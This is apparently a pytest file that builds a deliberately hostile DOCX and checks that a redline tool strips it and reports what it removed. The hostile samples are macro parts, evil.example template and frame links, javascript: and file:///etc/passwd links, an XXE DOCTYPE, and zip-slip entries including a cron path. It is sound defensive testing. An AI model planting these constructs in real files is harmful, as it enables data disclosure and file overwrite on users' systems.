"""A DOCX redline built on NEW's package carries nothing hostile from it (issue 15, section 1).

NEW is an outside document made hostile: macros (vbaProject.bin, macro-enabled main part),
an external attached template, OLE and frame links outside the package, ``file:`` and
``javascript:`` link targets, zip entries named ``../../x`` and ``/etc/cron.d/x``, and a DOCTYPE
in a customXml part and in the web settings. The redline must keep the real content and the
web link, drop the rest, write only normalised part names, and say on stderr, in one line,
what it removed. The output is read back with zipfile and lxml, not with our reader.
"""

from __future__ import annotations

import io
import re
import subprocess
import sys
import zipfile
from pathlib import Path

from lxml import etree

from tests.outside import check

PR = "http://schemas.openxmlformats.org/package/2006/relationships"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DOCTYPE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'


def _rel(rid: str, kind: str, target: str, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"{mode}/>'


def hostile(source: Path) -> bytes:
    """``source`` with every kind of hostile content the redline must not pass on."""
    with zipfile.ZipFile(source) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    rels = parts["word/_rels/document.xml.rels"].decode()
    extra = (_rel("rIdVba", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", False)
             + _rel("rIdOle", f"{REL}/oleObject", "file:///C:/secret/book.xlsx")
             + _rel("rIdFrame", f"{REL}/frame", "http://evil.example/frame.html")
             + _rel("rIdJs", f"{REL}/hyperlink", "javascript:alert(1)")
             + _rel("rIdFile", f"{REL}/hyperlink", "file:///etc/passwd"))
    parts["word/_rels/document.xml.rels"] = rels.replace("</Relationships>", extra + "</Relationships>").encode()
    document = parts["word/document.xml"].decode()
    links = ('<w:hyperlink r:id="rIdJs"><w:r><w:t>click</w:t></w:r></w:hyperlink>'
             '<w:hyperlink r:id="rIdFile"><w:r><w:t>passwd</w:t></w:r></w:hyperlink>')
    document = document.replace("</w:p>", links + "</w:p>", 1)
    parts["word/document.xml"] = document.encode()
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 macro"
    settings = parts["word/settings.xml"].decode()
    if f'xmlns:r="{REL}"' not in settings:
        settings = settings.replace("<w:settings ", f'<w:settings xmlns:r="{REL}" ', 1)
    parts["word/settings.xml"] = re.sub(r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdTpl"/>', settings,
                                        count=1).encode()
    parts["word/_rels/settings.xml.rels"] = (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PR}">'
        + _rel("rIdTpl", f"{REL}/attachedTemplate", "http://evil.example/evil.dotm") + "</Relationships>").encode()
    parts["customXml/item9.xml"] = DOCTYPE
    parts["word/webSettings.xml"] = DOCTYPE
    types = parts["[Content_Types].xml"].decode().replace(
        "wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml")
    types = types.replace("</Types>", '<Override PartName="/word/vbaProject.bin" '
                          'ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    parts["[Content_Types].xml"] = types.encode()
    parts["../../x"] = b"escape"
    parts["/etc/cron.d/x"] = b"* * * * * root evil"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        for name, data in parts.items():
            package.writestr(name, data)
    return out.getvalue()


def test_hostile_content_is_dropped_and_reported(tmp_path: Path) -> None:
    pair = next(p for p in check.pairs() if p["name"] == "hyperlink-edit")
    new = tmp_path / "hostile-new.docx"
    new.write_bytes(hostile(pair["new"]))
    done = subprocess.run([sys.executable, "-m", "composer", "diff", str(pair["old"]), str(new), "--format", "docx",
                           "--out", str(tmp_path / "out"), "--date", "2026-12-01"],
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr
    removed = [line for line in done.stderr.splitlines() if "removed" in line]
    assert len(removed) == 1, done.stderr
    for word in ("vbaProject", "attachedTemplate", "oleObject", "frame", "javascript", "file:", "../../x",
                 "customXml/item9.xml"):
        assert word in removed[0], (word, removed[0])
    redline = next((tmp_path / "out").glob("*.docx"))
    with zipfile.ZipFile(redline) as package:
        names = package.namelist()
        assert all(not n.startswith("/") and ".." not in n.split("/") for n in names), names
        assert not any("vbaProject" in n for n in names)
        assert "customXml/item9.xml" not in names
        assert len(names) == len(set(names))
        types = package.read("[Content_Types].xml").decode()
        assert "macroEnabled" not in types and "vbaProject" not in types
        for name in names:
            data = package.read(name)
            if name.endswith((".xml", ".rels")):
                assert b"<!DOCTYPE" not in data and b"<!ENTITY" not in data, name
                etree.fromstring(data, etree.XMLParser(resolve_entities=False, no_network=True))
            if name.endswith(".rels"):
                for rel in etree.fromstring(data).iter(f"{{{PR}}}Relationship"):
                    if rel.get("TargetMode") == "External":
                        assert rel.get("Type").endswith("/hyperlink"), (name, rel.attrib)
                        assert rel.get("Target").startswith(("http://", "https://", "mailto:")), (name, rel.attrib)
        settings = package.read("word/settings.xml").decode()
        assert "attachedTemplate" not in settings
    view = check.views(redline)
    assert any("click" in t and "passwd" in t for t in view["body"]["accept"]), "the links' text is content: kept"
    assert any("IOM portal" in t for t in view["body"]["accept"])
